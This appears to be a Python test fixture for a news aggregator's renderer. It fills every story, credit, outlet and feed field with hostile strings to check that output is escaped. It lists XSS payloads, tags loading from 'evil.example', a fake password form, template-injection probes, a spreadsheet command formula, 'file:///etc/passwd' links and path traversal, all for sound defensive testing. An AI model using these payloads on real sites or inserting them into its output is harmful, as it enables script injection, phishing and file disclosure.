"""Words that try to run, to load, to break out, or to break the layout, in every field that a feed can fill.

Our own fragments, after section A of the threats: markup in plain fields, schemes, foreign content, mutation,
styles, frames, forms, clobbering, unclosed tags, templates, direction marks, lengths.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

from aggregator.digest.edition import CreditState, RevisionView
from aggregator.model import Credit
from aggregator.render.records import Ailment, FeedState, Network, OutletRow, Printed, SitePages, Trade
from tests.render.builders import at, copy, edition, piece, story

FRAGMENTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/)'>over it all</div>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.example/></object>", "<embed src=https://evil.example/>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input type=password autofocus></form>", "<dialog open>password?</dialog>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>click</a>", "<details open ontoggle=alert(1)>",
    "<video poster=https://evil.example/p src=https://evil.example/v autoplay>", "<p id=main name=q>clobbered</p>",
    "</main></body></html><h1>another page</h1>", "</title></head><body onload=alert(1)>", "<!-- <![CDATA[ ]]> -->",
    "--><script>alert(1)</script>", '"><script>alert(1)</script>', "' onmouseover='alert(1)", "` onload=alert(1) `",
    "</textarea><script>alert(1)</script>", "</bdi></a></h3><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}}{% raw %}${7*7}%s%(x)s{0}", "{{ ''.__class__.__mro__ }}", "javascript:alert(1)", "\u202eevil\u2066\u2067 \u202d",
    "\u200b\u200d\ufeff\u2060", "\x00\x1b[31m\x9b31m\x07", "a\u0300\u0301\u0302\u0303\u0304" * 40, "\ufffe\uffff\U000e0041",
    "\u2028\u2029", "w" * 4000, "سلام " * 60, "漢" * 400, "", "   ", "-rf", "=cmd|' /C calc'!A0", "../../etc/passwd", "con",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "java&#10;script:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "blob:https://evil.example/1", "file:///etc/passwd",
    "intent://x#Intent;scheme=http;end", "//evil.example/x", "/logout", "?delete=1", 'https://ok.example/"onclick=alert(1)//',
)  # fmt: skip


def hostile_site() -> SitePages:
    """A story for each fragment, the fragment in every one of its fields; twelve of them lead or stand in sections."""
    stories = []
    for number, bad in enumerate(FRAGMENTS, 1):
        link = LINKS[number % len(LINKS)]
        found = Credit(name=bad, url=link, outlet=None, quote=bad, position="foot", confidence=0.5)
        reprint = copy(
            number + 500, bad or "empty", link=link, title=bad, language=bad[:3] or None, credit=found, text=f"{bad}\nWords.",
            evidence=((bad, bad),), state=CreditState.CREDITS_OTHER, delay=timedelta(hours=number),
        )  # fmt: skip
        versions = (
            RevisionView(at=at(), words=3, title=bad, text="One two three."),
            RevisionView(at=at(1), words=3, title=f"{bad}!", text=f"One {bad} three.", silent=True),
        )
        first = piece(
            number, bad or "empty", title=bad, link=link, authors=(bad,), tags=(bad,), enclosures=((link, bad),), text=f"{bad}\nWords.",
            language=bad[:3] or None, copies=(reprint,), revisions=versions, evidence=((bad, bad),), boilerplate=(bad,),
        )  # fmt: skip
        stories.append(
            story(
                number,
                first,
                piece(number + 200, "b.example", title=bad, link=link),
                title=bad,
                standfirst=bad,
                category=bad or None,
            )
        )
    rows = tuple(
        OutletRow(outlet=bad or "empty", entries=3, originals=2, copies=1, credited=0, uncredited=1, copies_from=((FRAGMENTS[0], 1),),
                  own=(Printed(piece=1, title=bad, language=bad[:3], link=LINKS[0], at=at(), card=False),))
        for bad in FRAGMENTS[:40]
    )  # fmt: skip
    trades = tuple(
        Trade(copier=bad or "empty", source=FRAGMENTS[0], copies=1, credited=0, due=1, delay=timedelta(hours=1))
        for bad in FRAGMENTS[1:40]
    )
    states = tuple(FeedState(title=bad, url=LINKS[0], ailment=Ailment.FAILING, reason=bad) for bad in FRAGMENTS)
    made = edition(*stories, leads=tuple(stories[:6]), briefs=tuple(stories[6:]))
    return replace(
        SitePages(edition=made), networks=(Network(days=30, end=at(16), outlets=rows, trades=trades),), states=states
    )
